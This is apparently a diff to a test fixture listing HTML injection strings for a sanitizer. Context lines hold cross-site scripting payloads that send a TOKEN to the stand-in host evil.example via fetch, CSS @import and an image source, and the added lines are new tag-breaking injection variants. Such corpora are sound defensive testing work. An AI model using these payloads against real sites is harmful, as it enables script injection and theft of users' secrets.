@@ -119,6 +119,9 @@ export const ATTACKS: readonly string[] = [
   'a <script>\n```\n</script>\n```\nfetch("//evil.example/?q= TOKEN")</script>',
   'a <script>\\</script> fetch("//evil.example/?q= TOKEN")</script>',
   '<svg><style>@import &quot;//evil.example/<?ph </style>?q= TOKEN&quot;</style></svg>',
+  "a <pre><n=\n\"> mask='#TOKEN'</pre>",
+  "a <code>`</code>` <n=\n\"> mask='#TOKEN'</code>",
+  "a <pre>`<code></code>` <n=\n\"> mask='#TOKEN'</pre>",
   'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
